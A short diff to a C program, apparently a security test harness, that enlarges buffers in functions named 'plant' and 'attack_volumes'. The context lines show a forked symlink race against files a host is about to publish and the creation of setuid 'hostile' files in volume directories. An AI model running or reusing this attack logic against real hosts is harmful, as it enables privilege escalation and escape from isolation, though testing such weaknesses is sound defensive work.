@@ -154,7 +154,7 @@ static const char *plant(const char *ckid, char *named, size_t size)
 		 * to the canary, then the dump again, under the name the host
 		 * is about to publish. */
 		if (fork() == 0) {
-			char real[4300], lnk[4300];
+			char real[4400], lnk[4400];
 			snprintf(real, sizeof(real), "%s.real", p);
 			snprintf(lnk, sizeof(lnk), "%s.lnk", p);
 			for (long long end = time(NULL) + 2; time(NULL) < end;) {
@@ -465,7 +465,7 @@ static void attack_volumes(void)
 	while (d && (de = readdir(d))) {
 		if (de->d_name[0] == '.')
 			continue;
-		char label[64];
+		char label[300];
 		snprintf(path, sizeof(path), "%s/%s/hostile", volumes, de->d_name);
 		snprintf(label, sizeof(label), "write %s", de->d_name);
 		fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 04755);
